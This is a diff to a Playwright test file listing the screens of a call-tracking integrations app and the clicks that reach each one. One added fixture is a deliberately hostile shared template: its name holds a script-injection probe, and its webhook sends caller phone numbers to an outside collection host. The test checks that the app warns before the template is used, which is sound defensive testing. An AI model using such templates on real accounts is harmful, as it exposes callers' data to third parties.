@@ -14,6 +14,33 @@ export interface View {
   readonly outside?: true
 }
 
+/** As somebody wrote it who would like to have the calls of others. */
+const template = JSON.stringify({
+  offhook_template: 1,
+  name: `Leads to CRM <script>alert(1)</script> ${'x'.repeat(80)}`,
+  service: 'generic',
+  realtime: false,
+  statuses: null,
+  final: true,
+  updated: false,
+  request: {
+    method: 'POST',
+    url: 'https://collect.example/calls',
+    format: 'json',
+    rows: [{ key: 'phone', value: '[[caller_number]]', type: 'auto', omit_empty: false, enabled: true }],
+    raw: null,
+    xml_root: 'call',
+    headers: [],
+    auth: { type: 'bearer' },
+  },
+  settings: {},
+  conditions: null,
+  wait: { recording: true, cap_s: 1200 },
+  recordings: { link_days: null },
+  delivery: { timeout_s: 15, schedule: 'standard', backlog: 'every', concurrency: 8, rate: null },
+  signing: { enabled: true },
+})
+
 /** Views of a program that has everything. */
 export const views: readonly View[] = [
   { name: 'sign-in', path: '/sign-in', ready: 'Password', outside: true },
@@ -31,7 +58,135 @@ export const views: readonly View[] = [
     ready: 'Body format',
     act: (page) => page.getByRole('button', { name: 'Change what it waits for' }).first().click(),
   },
+  {
+    name: 'editor-conditions',
+    path: '/integrations/{leads}?tab=when',
+    ready: /Matches \d+ of the last/,
+    act: (page) => page.getByText('Talked at least').evaluate((part) => part.scrollIntoView()),
+  },
+  {
+    name: 'editor-matches',
+    path: '/integrations/{leads}?tab=when',
+    ready: /Matches \d+ of the last/,
+    act: (page) => page.locator('.matches').evaluate((part) => part.scrollIntoView({ block: 'end' })),
+  },
+  {
+    name: 'editor-condition-field',
+    path: '/integrations/{leads}?tab=when',
+    ready: /Matches \d+ of the last/,
+    act: async (page) => {
+      await page.getByRole('button', { name: 'Field: Caller number' }).click()
+      await page.getByRole('combobox', { name: 'Which field?' }).fill('click')
+    },
+  },
   { name: 'editor-delivery', path: '/integrations/{crm}', ready: 'Body Key', act: tab('Delivery') },
+  {
+    name: 'editor-map',
+    path: '/integrations/{crm}',
+    ready: 'Body Key',
+    act: async (page) => {
+      await page.getByRole('textbox', { name: 'Body Value', exact: true }).nth(4).focus()
+      await page.keyboard.press('Control+End')
+      await page.keyboard.press('ArrowLeft')
+      await page.keyboard.press('Enter')
+      await page.getByRole('radio', { name: /other words/ }).check()
+    },
+  },
+  {
+    name: 'editor-oauth2',
+    path: '/integrations/{crm}?tab=auth',
+    ready: 'Body format',
+    act: async (page) => {
+      await page.getByLabel('OAuth 2').check()
+      await page.getByRole('radio', { name: 'Refresh token' }).check()
+      await page.getByLabel('Consent page').fill('https://crm.example/oauth/authorize')
+      await page.getByRole('button', { name: 'Add pair' }).click()
+    },
+  },
+  {
+    name: 'editor-signature',
+    path: '/integrations/{crm}?tab=auth',
+    ready: 'Body format',
+    act: (page) => page.getByLabel('Own signature').check(),
+  },
+  {
+    name: 'editor-certificates',
+    path: '/integrations/{crm}?tab=delivery',
+    ready: 'Body format',
+    act: async (page) => {
+      await page.locator('summary').filter({ hasText: 'Advanced' }).click()
+      await page.getByRole('textbox', { name: 'Own certificate' }).fill('-----BEGIN CERTIFICATE-----')
+    },
+  },
+  {
+    name: 'service-picker',
+    path: '/integrations/new',
+    ready: 'Base URL',
+    act: (page) => page.getByLabel('Service').click(),
+  },
+  {
+    name: 'service-inputs',
+    path: '/integrations/new',
+    ready: 'Base URL',
+    act: async (page) => {
+      await choose(page, 'Zendesk')
+      await page.getByLabel('Subdomain').fill('no such thing')
+      await page.getByLabel('Route Name').focus()
+    },
+  },
+  {
+    name: 'service-beta',
+    path: '/integrations/new',
+    ready: 'Base URL',
+    act: (page) => choose(page, 'Google Ads, calls'),
+  },
+  {
+    name: 'service-dry-run',
+    path: '/integrations/new',
+    ready: 'Base URL',
+    act: (page) => choose(page, 'Google Analytics'),
+  },
+  {
+    name: 'service-customised',
+    path: '/integrations/new',
+    ready: 'Base URL',
+    act: async (page) => {
+      await choose(page, 'HubSpot')
+      await page.getByRole('button', { name: 'Customise' }).click()
+    },
+  },
+  {
+    name: 'service-changed',
+    path: '/integrations/{crm}',
+    ready: 'Body Key',
+    act: (page) => choose(page, 'Pipedrive'),
+  },
+  {
+    name: 'template-share',
+    path: '/integrations/{crm}',
+    ready: 'Body Key',
+    act: async (page) => {
+      await page.getByRole('button', { name: 'More', exact: true }).click()
+      await page.getByRole('menuitem', { name: /Share as template/ }).click()
+      await page.getByRole('button', { name: 'Copy the link' }).waitFor()
+    },
+  },
+  {
+    name: 'template-found',
+    path: '/integrations/new',
+    ready: 'Base URL',
+    act: async (page) => {
+      await page.getByRole('button', { name: 'From a template' }).click()
+      await page.getByLabel('Link or template').fill(template)
+      await page.getByRole('button', { name: 'Look at it' }).click()
+      await page.getByText('Use this template?').waitFor()
+    },
+  },
+  {
+    name: 'template-refused',
+    path: '/integrations/new#template=nothing',
+    ready: /This is no template/,
+  },
   { name: 'deliveries', path: '/deliveries', ready: 'Dealer portal' },
   { name: 'deliveries-none', path: '/deliveries?q=nothing-has-this', ready: /Clear/ },
   { name: 'delivery', path: '/deliveries?open={failed}', ready: /Attempt 1/ },
@@ -124,6 +279,12 @@ export const views: readonly View[] = [
 export const emptyViews: readonly View[] = [
   { name: 'empty-live', path: '/live', ready: 'Live' },
   { name: 'empty-integrations', path: '/integrations', ready: 'Base URL' },
+  {
+    name: 'empty-matches',
+    path: '/integrations/new?tab=when',
+    ready: /example calls/,
+    act: (page) => page.locator('.matches').evaluate((part) => part.scrollIntoView({ block: 'end' })),
+  },
   { name: 'empty-deliveries', path: '/deliveries', ready: 'Deliveries' },
   { name: 'empty-calls', path: '/calls', ready: 'Calls' },
   { name: 'empty-numbers', path: '/numbers', ready: 'Numbers' },
@@ -145,4 +306,11 @@ export async function settled(page: Page, { ready, act }: View): Promise<void> {
 
 function tab(name: string): (page: Page) => Promise<void> {
   return (page) => page.getByRole('tab', { name }).click()
+}
+
+async function choose(page: Page, service: string): Promise<void> {
+  await page.getByLabel('Service').click()
+  await page.getByLabel('Search services').fill(service)
+  await page.getByLabel('Search services').press('Enter')
+  await page.getByRole('dialog').waitFor({ state: 'detached' })
 }
